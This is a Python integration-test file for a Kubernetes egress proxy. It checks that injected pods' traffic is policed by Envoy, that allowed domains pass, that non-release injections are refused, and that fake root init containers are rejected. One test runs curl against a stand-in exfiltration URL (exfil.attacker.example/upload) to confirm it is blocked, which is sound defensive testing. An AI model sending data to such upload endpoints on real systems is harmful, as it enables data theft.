"""Injected pods on the cluster's node: trusted only when their interceptor is exactly what an
installed release of the chart injects (its injection ClusterPolicy); then proxy-init runs as
root, and the workload reaches the lab through Envoy and the agent, judged by the policy."""

from __future__ import annotations

import json
import time

import pytest

from intercept_proxy.decision import parse_log
from intercept_proxy.injector.pod import inject_pod
from intercept_proxy.injector.values import settings_from_values
from tests.cluster.harness import LAB_UPSTREAMS, MEASUREMENTS, pod

pytestmark = pytest.mark.netns

RELEASE = "intercept-proxy"
RELEASE_NAMESPACE = "intercept-proxy"
POLICY = "allowed_domains: [pypi.org]\n"
CURL = 'curl -s -o /dev/null -w "%{http_code} $u\\n" "$u"'


@pytest.fixture(scope="module")
def release(kube):
    """The chart, installed by the real Helm with its defaults; its settings."""
    kube.install(
        RELEASE,
        RELEASE_NAMESPACE,
        {**LAB_UPSTREAMS, "policy": {"default": {"allowed_domains": ["pypi.org"]}}},
    )
    yield settings_from_values(LAB_UPSTREAMS, RELEASE)
    # No hooks: the pre-delete Job needs the API from a pod, which this node cannot give.
    kube.helm("uninstall", RELEASE, "-n", RELEASE_NAMESPACE, "--wait", "--no-hooks")
    kube.kubectl("delete", "namespace", RELEASE_NAMESPACE, "--wait=false")


def policy_cloned(kube, namespace: str) -> None:
    """The chart's default policy, cloned by Kyverno into the namespace."""
    kube.wait_object(namespace, "configmap", f"{RELEASE}-policy")


def injected(name: str, script: str, settings, **spec) -> dict:
    labelled = pod(
        name, ["sh", "-c", script], metadata={"labels": {"intercept-proxy/enabled": "true"}}, **spec
    )
    return inject_pod(labelled, settings)


def test_an_injected_pod_reaches_the_lab_through_its_interceptor(kube, namespace, release, cluster):
    script = (
        f"for u in https://pypi.org/simple/ https://exfil.attacker.example/upload; do {CURL}; done"
    )
    start = time.monotonic()
    policy_cloned(kube, namespace)
    kube.apply(namespace, injected("agent", script, release))
    done = kube.wait_phase(namespace, "agent", "Succeeded", timeout=120)
    MEASUREMENTS["injected pod: create to Succeeded (sidecars up, 2 requests), s"] = round(
        time.monotonic() - start, 2
    )
    assert kube.logs(namespace, "agent", "-c", "app").splitlines() == [
        "200 https://pypi.org/simple/",
        "403 https://exfil.attacker.example/upload",
    ]
    # proxy-init ran as root (trusted) and installed the capture.
    proxy_init = kube.logs(namespace, "agent", "-c", "proxy-init")
    assert "rules applied and verified" in proxy_init
    inits = {s["name"]: s for s in done["status"]["initContainerStatuses"]}
    assert inits["proxy-init"]["state"]["terminated"]["exitCode"] == 0
    assert set(inits) == {"proxy-init", "intercept-agent", "envoy"}
    # Envoy's log is the decision log.
    decisions = parse_log(kube.logs(namespace, "agent", "-c", "envoy"))
    assert [(d.host, d.allow) for d in decisions] == [
        ("pypi.org", True),
        ("exfil.attacker.example", False),
    ]
    # The lab received the allowed request only.
    receipts = cluster.lab.wait_for_receipts(lambda r: r.get("host") == "pypi.org")
    assert receipts[-1]["path"] == "/simple/"
    assert not [r for r in cluster.lab.receipts() if r.get("host") == "exfil.attacker.example"]


def test_an_injection_no_release_made_is_refused(kube, namespace, release):
    """Injected with other settings than the release's: Kyverno's validation refuses it."""
    other = settings_from_values({"capture": {"tlsPorts": [443, 8443]}}, RELEASE)
    applied = kube.kubectl(
        "apply", "-n", namespace, "-f", "-",
        input=json.dumps(injected("stranger", "true", other)), check=False,
    )  # fmt: skip
    assert applied.returncode != 0
    assert "interceptor-present" in applied.stderr
    assert "as this release injects it" in " ".join(applied.stderr.split())


def test_a_pod_annotated_injected_but_not_injected_runs_untrusted(kube, namespace, release):
    fake = pod(
        "fake",
        ["true"],
        metadata={"annotations": {"intercept-proxy/injected": "true"}},
        initContainers=[
            {
                "name": "proxy-init",
                "image": "busybox:1.36",
                "command": ["sh", "-c", "id"],
                "securityContext": {"runAsUser": 0},
            }
        ],
    )
    kube.apply(namespace, fake)
    failed = kube.wait_phase(namespace, "fake", "Failed", timeout=60)
    message = failed["status"]["message"]
    assert "spec.initContainers[0].securityContext.runAsUser: 0" in message
    assert "annotated intercept-proxy/injected, but its interceptor is no release's" in message
    assert f"{RELEASE}-inject-proxy: initContainers[0] is not its proxy-init" in message
